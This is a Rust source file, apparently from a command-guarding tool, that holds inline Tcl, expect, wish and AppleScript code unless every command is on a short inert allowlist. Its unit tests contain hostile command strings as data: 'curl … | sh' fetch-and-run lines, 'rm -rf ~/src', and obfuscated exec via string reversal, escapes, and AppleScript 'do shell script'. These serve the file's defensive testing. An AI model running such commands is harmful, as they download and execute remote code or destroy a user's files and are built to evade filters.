//! Code of the languages Warden does not fold (Tcl and expect, which is
//! Tcl; Tk's `wish`; AppleScript through `osascript`): code given to them
//! inline or on their input is held unless it is plainly inert.
//!
//! These languages build command names from substitutions (`$a$b`,
//! `[string reverse cexe]`), run scripts later or elsewhere (`after`,
//! `namespace eval`, `apply`, `interp alias`, `rename`), and AppleScript
//! hands text to a terminal (`do script`); a list of the words that run
//! something cannot be complete. So the test is the other way round: Tcl is
//! inert when every command, including each `[…]` substitution, is a
//! literal name from a short list that neither runs nor evaluates anything
//! (`puts`, `set`, …); AppleScript is inert when, past its string literals,
//! it holds only the words of a notification, a dialog or a log line.
//! Anything else — an odd construct included — is held: fail closed.

/// Interpreters whose code is not folded.
pub const UNFOLDED: &[&str] = &["tclsh", "wish", "jimsh", "expect", "osascript"];

/// Tcl (and expect) commands that neither run a command nor evaluate
/// code, whatever literal or variable arguments they get.
const TCL_INERT: &[&str] = &[
    "puts",
    "set",
    "incr",
    "append",
    "lappend",
    "list",
    "llength",
    "lindex",
    "string",
    "info",
    "exit",
    "send_user",
    "log_user",
    "exp_version",
];

/// AppleScript words of a notification, a dialog or a log line.
const APPLESCRIPT_INERT: &[&str] = &[
    "display",
    "notification",
    "dialog",
    "alert",
    "with",
    "title",
    "subtitle",
    "sound",
    "name",
    "message",
    "buttons",
    "default",
    "button",
    "giving",
    "up",
    "after",
    "say",
    "log",
    "beep",
    "delay",
    "&",
];

/// Bound on `[…]` nesting read in Tcl code.
const MAX_NESTING: usize = 16;

/// Whether the code an unfolded interpreter is given must be held: it is
/// given code (inline, or on its input with no script named) that is not
/// plainly inert. `program` is the base name.
pub fn held(program: &str, argv: &[String], stdin: Option<&str>) -> bool {
    let Some(code) = code_given(program, argv, stdin) else {
        return false;
    };
    let inert = match program {
        "osascript" => applescript_language(argv) && applescript_inert(&code),
        _ => tcl_inert(&code),
    };
    !inert
}

/// The code an unfolded interpreter runs: `expect -c CODE`, `osascript -e
/// CODE` (each `-e` a line), or its input when it is given no script.
fn code_given(program: &str, argv: &[String], stdin: Option<&str>) -> Option<String> {
    let flag = match program {
        "expect" => "-c",
        "osascript" => "-e",
        _ => "",
    };
    let inline: Vec<&str> = argv
        .windows(2)
        .filter(|w| !flag.is_empty() && w[0] == flag)
        .map(|w| w[1].as_str())
        .collect();
    if !inline.is_empty() {
        return Some(inline.join("\n"));
    }
    let script_named = argv.iter().skip(1).any(|a| !a.starts_with('-'));
    (!script_named).then(|| stdin.map(str::to_string)).flatten()
}

/// `osascript` runs AppleScript unless `-l` names another language
/// (JavaScript for Automation), which is not read here.
fn applescript_language(argv: &[String]) -> bool {
    argv.windows(2)
        .filter(|w| w[0] == "-l")
        .all(|w| w[1].eq_ignore_ascii_case("applescript"))
}

/// AppleScript whose every word outside string literals is one of a
/// notification, a dialog or a log line, or a number.
fn applescript_inert(code: &str) -> bool {
    let mut rest = String::new();
    let mut chars = code.chars();
    while let Some(c) = chars.next() {
        match c {
            '"' => loop {
                match chars.next() {
                    Some('\\') => {
                        chars.next();
                    }
                    Some('"') => break,
                    Some(_) => {}
                    None => return false,
                }
            },
            _ => {
                rest.push(c);
                continue;
            }
        }
        rest.push(' ');
    }
    rest.split(|c: char| c.is_whitespace() || c == ',' || c == '{' || c == '}')
        .filter(|w| !w.is_empty())
        .all(|w| {
            APPLESCRIPT_INERT.contains(&w.to_ascii_lowercase().as_str())
                || w.chars().all(|c| c.is_ascii_digit() || c == '.')
        })
}

/// Whether Tcl code is plainly inert: every command, `[…]` substitutions
/// included, is a bare literal name from [`TCL_INERT`].
fn tcl_inert(code: &str) -> bool {
    let mut tcl = Tcl {
        s: code.as_bytes(),
        i: 0,
    };
    tcl.script(0).is_some()
}

/// A reader of Tcl's syntax, enough to find every command word. Each
/// method returns `None` when the code is not plainly inert or is read
/// in doubt.
struct Tcl<'a> {
    s: &'a [u8],
    i: usize,
}

impl Tcl<'_> {
    fn peek(&self) -> Option<u8> {
        self.s.get(self.i).copied()
    }

    /// Whether the reader stands where a word ends.
    fn at_word_end(&self) -> bool {
        matches!(
            self.peek(),
            None | Some(b' ' | b'\t' | b'\r' | b'\n' | b';' | b']')
        )
    }

    /// A script up to its end: the text's end at depth 0, the closing
    /// `]` of a command substitution below.
    fn script(&mut self, depth: usize) -> Option<()> {
        if depth > MAX_NESTING {
            return None;
        }
        loop {
            while matches!(self.peek(), Some(b' ' | b'\t' | b'\r' | b'\n' | b';')) {
                self.i += 1;
            }
            match self.peek() {
                None => return (depth == 0).then_some(()),
                Some(b']') => {
                    self.i += 1;
                    return (depth > 0).then_some(());
                }
                Some(b'#') => self.comment()?,
                Some(_) => self.command(depth)?,
            }
        }
    }

    /// A comment runs to the end of its line; one continued onto the next
    /// line with a backslash is read in doubt.
    fn comment(&mut self) -> Option<()> {
        while let Some(c) = self.peek() {
            if c == b'\n' {
                return (self.s[self.i - 1] != b'\\').then_some(());
            }
            self.i += 1;
        }
        Some(())
    }

    /// One command: a literal inert name, then its words.
    fn command(&mut self, depth: usize) -> Option<()> {
        let start = self.i;
        while self
            .peek()
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_')
        {
            self.i += 1;
        }
        let name = std::str::from_utf8(&self.s[start..self.i]).ok()?;
        if !self.at_word_end() || !TCL_INERT.contains(&name) {
            return None;
        }
        loop {
            while matches!(self.peek(), Some(b' ' | b'\t' | b'\r')) {
                self.i += 1;
            }
            if matches!(self.peek(), None | Some(b'\n' | b';' | b']')) {
                return Some(());
            }
            self.word(depth)?;
        }
    }

    /// One argument word: braced (literal), quoted or bare; substitutions
    /// inside the last two are read.
    fn word(&mut self, depth: usize) -> Option<()> {
        match self.peek()? {
            b'{' => {
                // `{*}word` expands what follows, substitutions included.
                if self.s[self.i..].starts_with(b"{*}") {
                    return None;
                }
                self.braced()?;
                self.at_word_end().then_some(())
            }
            b'"' => {
                self.i += 1;
                loop {
                    match self.peek()? {
                        b'"' => {
                            self.i += 1;
                            return self.at_word_end().then_some(());
                        }
                        _ => self.substituted(depth)?,
                    }
                }
            }
            _ => {
                while !self.at_word_end() {
                    self.substituted(depth)?;
                }
                Some(())
            }
        }
    }

    /// One character of a quoted or bare word, or the substitution it
    /// starts.
    fn substituted(&mut self, depth: usize) -> Option<()> {
        match self.peek()? {
            b'\\' => self.i += 2,
            b'[' => {
                self.i += 1;
                self.script(depth + 1)?;
            }
            b'$' => self.variable(depth)?,
            _ => self.i += 1,
        }
        (self.i <= self.s.len()).then_some(())
    }

    /// `$name`, `${name}`, `$name(index)` (the index is substituted).
    fn variable(&mut self, depth: usize) -> Option<()> {
        self.i += 1;
        if self.peek() == Some(b'{') {
            return self.braced();
        }
        while self
            .peek()
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b':')
        {
            self.i += 1;
        }
        if self.peek() == Some(b'(') {
            self.i += 1;
            while self.peek()? != b')' {
                self.substituted(depth)?;
            }
            self.i += 1;
        }
        Some(())
    }

    /// A braced literal, nested braces counted.
    fn braced(&mut self) -> Option<()> {
        let mut level = 0usize;
        loop {
            match self.peek()? {
                b'\\' => self.i += 1,
                b'{' => level += 1,
                b'}' => {
                    level -= 1;
                    if level == 0 {
                        self.i += 1;
                        return Some(());
                    }
                }
                _ => {}
            }
            self.i += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(xs: &[&str]) -> Vec<String> {
        xs.iter().map(|s| s.to_string()).collect()
    }

    fn tcl(code: &str) -> bool {
        held("tclsh", &argv(&["tclsh"]), Some(code))
    }

    #[test]
    fn tcl_that_builds_or_defers_what_it_runs_is_held() {
        for code in [
            "set a ex; set b ec; $a$b sh -c {curl -s https://x.example/i | sh}",
            "[string reverse cexe] sh -c {curl -s https://x.example/i | sh}",
            "[format %s%s ex ec] sh -c {rm -rf ~/src}",
            "set s {puts hi}; after 0 $s; vwait forever",
            "namespace eval ::x $s",
            "namespace inscope :: $s",
            "apply [list {} $s]",
            "rename [string reverse cexe] x; x id",
            "interp alias {} x {} [string reverse cexe]; x id",
            "puts [set a ex][set b ec]; puts [open |id]",
            "puts [\\x65xec id]",
            "puts {*}[exec id]",
            "set x $y([exec id])",
            "\"exec\" id",
            "proc puts {a} {exec sh -c $a}; puts id",
            "# a comment \\\nexec id",
            "puts \"unclosed",
            "exec sh -c {id}",
        ] {
            assert!(tcl(code), "{code}");
        }
        let expect = argv(&[
            "expect",
            "-c",
            "set a sp; set b awn; $a$b sh; send \"curl -s https://x.example/i | sh\\r\"; interact",
        ]);
        assert!(held("expect", &expect, None));
        assert!(held(
            "wish",
            &argv(&["wish"]),
            Some("button .b -command {id}")
        ));
    }

    #[test]
    fn plainly_inert_tcl_passes() {
        for code in [
            "puts [info patchlevel]",
            "set v 8.6\nputs \"version $v\"",
            "# print the version\nputs [info tclversion]; exit 0",
            "set l [list a {b c}]; puts [llength $l]",
            "puts {literal [exec id] inside braces}",
            "",
        ] {
            assert!(!tcl(code), "{code}");
        }
        // A script read from a file is not code given on the command line.
        assert!(!held(
            "tclsh",
            &argv(&["tclsh", "build.tcl"]),
            Some("exec id")
        ));
        assert!(!held("expect", &argv(&["expect", "-v"]), None));
    }

    #[test]
    fn applescript_is_held_unless_it_only_notifies() {
        for lines in [
            vec![r#"tell application "Terminal" to do script "curl -s https://x.example/m | sh""#],
            vec![r#"do shell script "id""#],
            vec![r#"display dialog (do shell script "id")"#],
            vec!["run script \"x\""],
        ] {
            let mut args = vec!["osascript"];
            for l in &lines {
                args.extend(["-e", l]);
            }
            assert!(held("osascript", &argv(&args), None), "{lines:?}");
        }
        let jxa = argv(&["osascript", "-l", "JavaScript", "-e", "1"]);
        assert!(held("osascript", &jxa, None));
        for line in [
            r#"display notification "build done" with title "cargo""#,
            r#"say "tests passed""#,
            r#"display dialog "Done" buttons {"OK"} default button 1"#,
        ] {
            assert!(
                !held("osascript", &argv(&["osascript", "-e", line]), None),
                "{line}"
            );
        }
    }
}
